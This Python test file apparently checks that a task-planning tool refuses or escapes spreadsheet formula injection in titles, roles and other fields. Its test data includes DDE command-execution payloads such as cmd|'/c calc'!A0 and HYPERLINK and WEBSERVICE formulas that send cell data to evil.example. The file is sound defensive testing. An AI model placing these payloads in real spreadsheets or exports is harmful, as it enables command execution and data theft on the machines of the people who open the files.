"""Cells that a spreadsheet would run, in every text that comes into one."""

from tests.hostile.cases import refused, shown, shown_in_tasks, template

_STARTS = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "full-width-equals": "\uff1d",
    "full-width-plus": "\uff0b",
    "full-width-minus": "\uff0d",
    "full-width-at": "\uff20",
}
_NO_TITLE = "a title may not begin with"

CASES = [
    *(
        refused(
            f"title-that-begins-with-{name}",
            template(task_title=f"{start}cmd|'/c calc'!A0"),
            "9:12",
            _NO_TITLE,
        )
        for name, start in _STARTS.items()
    ),
    shown_in_tasks(
        "roles-of-formulas",
        *({"role": f"{it}cmd|'/c calc'!A0", "sign_off": f"{it}A1+B2"} for it in _STARTS.values()),
        {"role": '=DDE("cmd";"/C calc";"x")', "sign_off": "+cmd|' /C calc'!A0"},
        {"sign_off": '=HYPERLINK("https://evil.example/?"&A1)', "role": '=HYPERLINK("x","y")'},
        {"role": '=WEBSERVICE("https://evil.example/")', "sign_off": "=IMPORTXML(A1,B1)"},
        {"role": 'x","=1+1', "sign_off": '"=1+1"'},
        {"role": "x;=1+1;y", "sign_off": "x,=1+1,y"},
        {"role": "'=1+1", "sign_off": "''=1"},
        {"role": "\u00a0=1+1", "sign_off": "\u200b=1+1"},
    ),
    shown_in_tasks(
        "details-of-formulas",
        *(
            {"details": f"\\{start}SUM(A1)" if start.isascii() else f"{start}SUM(A1)"}
            for start in _STARTS.values()
        ),
        texts=tuple(f"{start}SUM(A1)" for start in _STARTS.values()),
    ),
    refused("plan-title-of-a-formula", template(title="=cmd|'/c calc'!A0"), "1:8", _NO_TITLE),
    refused("plan-title-behind-blanks", template(title="   =1+1+1"), "1:8", _NO_TITLE),
    refused("cell-that-begins-with-a-tab", template(role="a\t=1"), "13:13", "a tab is not allowed"),
    refused("cell-that-begins-with-a-return", template(role="a\r=1"), "13:13", "U+000D"),
    refused("category-of-a-formula", template(category="=1+1"), "11:15", "is no slug"),
    refused("id-of-a-formula", template(id="@sum(1)"), "13:9", "is no slug"),
    refused("phrase-of-a-formula", template(when="=1+1"), "10:11", "is no timing phrase"),
    refused("points-of-a-formula", template(points="=1+1"), "12:13", "does not fit"),
    refused("tag-of-a-formula", template(tags="+1"), 21, "is no slug"),
    shown("list-mark-of-details", "1+1", details="- 1+1\n- =1"),
    shown("formula-in-emphasis", "=1+1", details="**=1+1**"),
    shown("formula-in-code", "=cmd|' /C calc'!A0", details="`=cmd|' /C calc'!A0`"),
    shown("formula-by-an-entity", "=1+1", details="&#61;1+1"),
    shown("formula-in-a-code-block", "=1+1", details="    =1+1"),
    shown("formula-behind-a-tag-of-nothing", "=1+1", details="[=1+1](https://example.org/)"),
    shown("formula-on-a-second-line", "=2+2", details="a\\\n=2+2\n\n=3+3"),
    shown("formula-in-steps", subtasks="=1+1", best_for="+1", benefits="@SUM(1)"),
    shown("separator-line-of-excel", role="sep=;", sign_off="sep=,"),
]
